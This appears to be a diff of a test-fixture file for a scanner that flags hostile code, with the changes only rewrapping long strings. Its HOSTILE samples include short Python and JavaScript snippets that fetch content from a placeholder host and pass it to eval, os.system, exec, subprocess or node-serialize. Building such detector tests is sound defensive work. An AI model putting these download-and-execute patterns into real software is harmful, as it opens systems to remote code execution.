@@ -86,7 +86,8 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             line=3,
         ),
         "await, then eval": js(
-            "async function a() {\n  const { data } = await (await fetch('https://a.invalid')).json();\n  eval(data);\n}\n",
+            "async function a() {\n  const { data } = await (await fetch('https://a.invalid')).json();\n"
+            "  eval(data);\n}\n",
             line=3,
         ),
         "a callback collects chunks": js(
@@ -126,12 +127,14 @@ HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_command": {
         "a body is a command": py("import os, requests\nos.system(requests.get('https://a.invalid').text)\n"),
         "a file is fetched, then run": py(
-            "import requests, subprocess, sys\nopen('/tmp/x.py', 'wb').write(requests.get('https://a.invalid').content)\n"
+            "import requests, subprocess, sys\n"
+            "open('/tmp/x.py', 'wb').write(requests.get('https://a.invalid').content)\n"
             "subprocess.run([sys.executable, '/tmp/x.py'])\n",
             line=3,
         ),
         "in JavaScript": js(
-            "const { exec } = require('child_process');\nfetch('https://a.invalid').then(r => r.text()).then(t => exec(t));\n"
+            "const { exec } = require('child_process');\n"
+            "fetch('https://a.invalid').then(r => r.text()).then(t => exec(t));\n"
         ),
         "a part of a command": py(
             "import os, requests\nos.system('echo ' + requests.get('https://a.invalid').text)\n", verdict="review"
@@ -149,7 +152,8 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             line=4,
         ),
         "node-serialize": js(
-            "const s = require('node-serialize');\nfetch('https://a.invalid').then(r => r.text()).then(t => s.unserialize(t));\n"
+            "const s = require('node-serialize');\n"
+            "fetch('https://a.invalid').then(r => r.text()).then(t => s.unserialize(t));\n"
         ),
     },
     "remote_template": {
@@ -350,7 +354,8 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": "import requests\ndef exec(x):\n    return x\nexec(requests.get('https://a.invalid').text)\n"
         },
         "a method called eval": {
-            "app.py": "import requests\nimport pandas\nmodel = object()\nmodel.eval(requests.get('https://a.invalid').text)\n"
+            "app.py": "import requests\nimport pandas\nmodel = object()\n"
+            "model.eval(requests.get('https://a.invalid').text)\n"
         },
         "JSON.parse": {"app.js": "fetch('https://a.invalid').then(r => r.text()).then(t => JSON.parse(t).x);\n"},
         "a timer with a function": {
@@ -377,7 +382,8 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     },
     "remote_object": {
         "the safe YAML loader": {
-            "app.py": "import requests, yaml\nyaml.load(requests.get('https://a.invalid').text, Loader=yaml.SafeLoader)\n"
+            "app.py": "import requests, yaml\n"
+            "yaml.load(requests.get('https://a.invalid').text, Loader=yaml.SafeLoader)\n"
         },
         "safe_load": {"app.py": "import requests, yaml\nyaml.safe_load(requests.get('https://a.invalid').text)\n"},
         "an own cache": {
@@ -390,11 +396,13 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     },
     "remote_template": {
         "EJS with data": {
-            "app.js": "const ejs = require('ejs'), axios = require('axios');\naxios.get('https://a.invalid').then(({ data }) =>\n"
+            "app.js": "const ejs = require('ejs'), axios = require('axios');\n"
+            "axios.get('https://a.invalid').then(({ data }) =>\n"
             "  ejs.render('<%= x %>', { x: data.name }, { client: true }));\n"
         },
         "Jinja with data": {
-            "app.py": "import jinja2, requests\njinja2.Template('{{ x }}').render(x=requests.get('https://a.invalid').text)\n"
+            "app.py": "import jinja2, requests\n"
+            "jinja2.Template('{{ x }}').render(x=requests.get('https://a.invalid').text)\n"
         },
         "a rendered page": {
             "app.js": "const ejs = require('ejs');\nejs.renderFile('a.ejs', { x: 1 }, (e, s) => console.log(s));\n"
@@ -413,7 +421,8 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "decoded, not run": {"app.py": "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))\n"},
         "a picture in a page": {"app.js": "img.src = 'data:image/png;base64,' + atob('MQ==');\n"},
         "a compressed table": {
-            "app.py": "import zlib, base64, json\nT = json.loads(zlib.decompress(base64.b64decode('eJyLjgUAARUAuQ==')))\n"
+            "app.py": "import zlib, base64, json\n"
+            "T = json.loads(zlib.decompress(base64.b64decode('eJyLjgUAARUAuQ==')))\n"
         },
     },
     "disguised_program": {
@@ -451,7 +460,8 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "quiet_task": {
         "shown": {".vscode/tasks.json": task("npm run watch")},
         "quiet, but not by itself": {
-            ".vscode/tasks.json": '{"tasks": [{"label": "a", "command": "echo hi", "presentation": {"reveal": "never"}}]}'
+            ".vscode/tasks.json": '{"tasks": [{"label": "a", "command": "echo hi", '
+            '"presentation": {"reveal": "never"}}]}'
         },
         "another file": {"tasks.json": task("node x.js", QUIET), "x.js": "console.log(1)\n"},
     },
@@ -468,7 +478,8 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "git_takeover": {
         "a sample hook": {".git/hooks/pre-commit.sample": "echo hi\n"},
         "an ordinary configuration": {
-            ".git/config": '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://a.invalid/x.git\n[alias]\n\tst = status\n'
+            ".git/config": '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://a.invalid/x.git\n'
+            "[alias]\n\tst = status\n"
         },
         "husky": {".husky/pre-commit": "npm test\n", "package.json": package(test="jest")},
     },
